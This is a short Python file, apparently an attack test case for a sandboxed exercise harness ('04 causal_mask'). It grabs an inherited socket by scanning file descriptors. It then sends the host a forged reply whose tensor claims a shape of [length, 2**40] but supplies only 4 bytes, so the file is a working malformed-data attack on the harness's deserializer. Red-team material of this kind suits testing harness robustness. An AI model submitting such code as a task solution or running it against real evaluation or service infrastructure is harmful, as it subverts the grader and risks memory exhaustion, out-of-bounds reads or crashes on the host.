# attack: a tensor that claims more numbers than it sends
# exercise: 04 causal_mask
import json
import os
import socket
import struct


def wire():
    for number in range(3, 100):
        try:
            return socket.socket(fileno=os.dup(number))
        except OSError:
            pass


def frame(tree, data=b""):
    text = json.dumps(tree).encode()
    return struct.pack(">QQ", len(text), len(data)) + text + data


def causal_mask(length):
    tensor = ["data", "bool", [length, 2**40], [1, 1], [0, 4]]
    reply = {"modules": [], "drop": [], "modes": [True, "float32", [None] * 3], "changed": [], "result": tensor}
    wire().sendall(frame(reply, bytes(4)))
